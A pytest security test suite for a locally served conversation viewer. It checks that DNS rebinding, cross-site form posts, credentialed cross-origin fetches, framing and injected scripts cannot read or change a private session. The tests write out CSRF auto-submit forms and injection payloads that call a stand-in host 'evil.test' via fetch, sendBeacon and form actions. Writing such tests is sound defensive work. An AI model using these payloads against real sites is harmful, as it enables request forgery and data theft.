"""Only who has the link reads the page, and no other site in the same browser does."""

from __future__ import annotations

import re
import threading
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from browser.serving import Served, serve
from playwright.sync_api import expect

from statekeep import Sessions

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from browser.watching import OpenPage
    from playwright.sync_api import Browser, BrowserContext, Page

EVIL = "evil.test"
"""A name that leads to this machine, as an attacker's does after rebinding."""

SECRET = "4711-0815"
"""What the attacker wants to read."""


@pytest.fixture(scope="module")
def kept(new_location: Callable[[str], str]) -> Iterator[Served]:
    """A page over what an attacker wants to read, and to change."""

    def fill(store: Any) -> None:
        Sessions(store).add_turn("private", user=[f"It is {SECRET}."], user_id="ada")

    with serve(new_location("sqlite"), "--allow-changes", fill=fill) as served:
        yield served


@dataclass(frozen=True)
class AnotherSite:
    """A server on a port of its own.

    Attributes:
        port: The port.
        asked: The paths that it was asked for.
    """

    port: int
    asked: list[str]


@contextmanager
def _another_site(html: str) -> Iterator[AnotherSite]:
    """Serve a page; the path does not matter."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            body = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield AnotherSite(server.server_address[1], asked)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture(params=["127.0.0.1", EVIL])
def attacker(request: pytest.FixtureRequest) -> str:
    """Where another site is: at another port of the same host, or at a host of its own."""
    name: str = request.param
    return name


def _is_untouched(served: Served) -> bool:
    summary = Sessions(served.store).list().summaries[0]
    return (summary.id, summary.pinned_until) == ("private", None)


def test_the_token_does_not_stay_in_the_address(kept: Served, open_page: OpenPage) -> None:
    page = open_page(kept).page
    assert page.url == kept.at("/")
    assert "token" not in page.content()
    assert page.evaluate("performance.getEntries().filter((e) => e.name.includes('token'))") == []
    page.get_by_role("link", name="private").click()
    page.go_back()
    assert page.url == kept.at("/")
    page.go_back()
    assert page.url == "about:blank"


def test_the_cookie_is_for_the_browser_alone(kept: Served, open_page: OpenPage) -> None:
    page = open_page(kept).page
    assert page.evaluate("document.cookie") == ""
    (cookie,) = page.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert str(kept.port) in cookie["name"]
    assert cookie["value"] not in kept.link


def test_without_the_link_nothing_is_shown(kept: Served, chromium: Browser) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        for path in ("/", "/conversation?session=private", "/raw?session=private", "/search?q=It"):
            answer = page.goto(kept.base + path)
            assert answer is not None
            assert answer.status == 401
            assert SECRET not in page.content()
        expect(page.get_by_role("heading", level=1)).to_have_text("Open the link")


def test_two_pages_do_not_take_each_others_cookies(
    kept: Served, site: Served, chromium: Browser
) -> None:
    with chromium.new_context() as context:
        page, other = _opened(context, kept), context.new_page()
        other.goto(site.link)
        page.reload()
        expect(page.get_by_role("link", name="private")).to_be_visible()
        other.reload()
        expect(other.get_by_role("link", name="Plan the parser")).to_be_visible()


@pytest.mark.parametrize("with_link", [False, True])
def test_a_name_that_was_rebound_is_refused(
    kept: Served, chromium: Browser, *, with_link: bool
) -> None:
    address = kept.link if with_link else kept.at("/conversation", session="private")
    with chromium.new_context() as context:
        page = _opened(context, kept)
        answer = page.goto(address.replace("127.0.0.1", EVIL))
        assert answer is not None
        assert answer.status == 421
        assert SECRET not in page.content()


def _opened(context: BrowserContext, served: Served) -> Page:
    """A page of a browser that has the cookie."""
    page = context.new_page()
    page.goto(served.link)
    expect(page.get_by_role("link", name="private")).to_be_visible()
    return page


_FORMS = """<title>forms</title>
<form method="post" action="{base}/{what}?session=private">
<input name="form_token" value="guessed"><input name="until" value=""></form>
<script>document.forms[0].submit()</script>"""


@pytest.mark.parametrize("what", ["pin", "to-trash"])
def test_a_form_of_another_site_changes_nothing(
    kept: Served, chromium: Browser, attacker: str, what: str
) -> None:
    html = _FORMS.format(base=kept.base, what=what)
    with _another_site(html) as other, chromium.new_context() as context:
        page = _opened(context, kept)
        with page.expect_response(re.compile(what)) as answered:
            page.goto(f"http://{attacker}:{other.port}/")
        assert answered.value.status in {401, 403}
        assert "cookie" not in answered.value.request.all_headers() or attacker != EVIL
        assert _is_untouched(kept)


def test_a_script_of_another_site_reads_and_changes_nothing(
    kept: Served, chromium: Browser, attacker: str
) -> None:
    read = """async (base) => {
      const said = [];
      const form = new URLSearchParams({ form_token: "guessed" });
      for (const [method, path, mode] of [
        ["GET", "/conversation?session=private", "cors"],
        ["GET", "/raw?session=private", "cors"],
        ["GET", "/raw?session=private", "no-cors"],
        ["POST", "/to-trash?session=private", "cors"],
        ["POST", "/to-trash?session=private", "no-cors"],
      ]) {
        try {
          const body = method === "POST" ? form : undefined;
          const answer = await fetch(base + path, { method, mode, body, credentials: "include" });
          said.push(`${answer.type} ${await answer.text()}`);
        } catch (error) {
          said.push(`refused ${error.name}`);
        }
      }
      return said;
    }"""
    with _another_site("<title>scripts</title>") as other, chromium.new_context() as context:
        page = _opened(context, kept)
        page.goto(f"http://{attacker}:{other.port}/")
        assert {*page.evaluate(read, kept.base)} == {"refused TypeError"}
    assert _is_untouched(kept)


def test_another_site_cannot_show_it_inside_or_take_it_for_a_script(
    kept: Served, chromium: Browser, attacker: str
) -> None:
    raw = kept.at("/raw", session="private")
    html = f"""<title>frames</title><iframe src="{kept.base}/"></iframe>
    <script src="{raw}" onload="loaded = true" onerror="loaded = false"></script>
    <img src="{kept.base}/static/icon.svg" onload="seen = true" onerror="seen = false">"""
    with _another_site(html) as other, chromium.new_context() as context:
        page = _opened(context, kept)
        page.goto(f"http://{attacker}:{other.port}/")
        assert page.evaluate("loaded") is False
        assert page.evaluate("seen") is False
        frame = page.frames[1]
        assert "private" not in frame.content()
        # A window that was opened by a script is out of its reach.
        with context.expect_page() as opened:
            page.evaluate("(base) => { opened = window.open(base) }", kept.base)
        opened.value.wait_for_load_state()
        reach = "() => { try { return opened.document.body.innerText } catch { return 'closed' } }"
        assert page.evaluate(reach) in {"closed", "", None}


def test_no_script_runs_but_its_own(kept: Served, chromium: Browser) -> None:
    """Even if something of a conversation became a part of the page."""
    tries = """async (evil) => {
      const add = (name, values) =>
        document.body.append(Object.assign(document.createElement(name), values));
      add("script", { textContent: "window.marker = 1" });
      add("script", { src: "data:text/javascript,window.marker=1" });
      for (const name of ["script", "img", "iframe", "embed", "video"]) {
        add(name, { src: evil });
      }
      add("link", { rel: "stylesheet", href: evil });
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.marker=1'>");
      document.body.insertAdjacentHTML("beforeend", "<p id=styled style='position:fixed'>x</p>");
      add("base", { href: evil });
      const form = Object.assign(document.createElement("form"), { action: evil, method: "post" });
      document.body.append(form);
      form.submit();
      const sent = await fetch(evil).then(() => "sent", () => "refused");
      navigator.sendBeacon(evil, "x");
      await new Promise((done) => setTimeout(done, 500));
      return [window.marker ?? null, sent, getComputedStyle(styled).position];
    }"""
    with _another_site("window.marker = 1") as evil, chromium.new_context() as context:
        page = _opened(context, kept)
        assert page.evaluate(tries, f"http://{EVIL}:{evil.port}/x") == [None, "refused", "static"]
        assert page.url == kept.at("/")
        assert not evil.asked
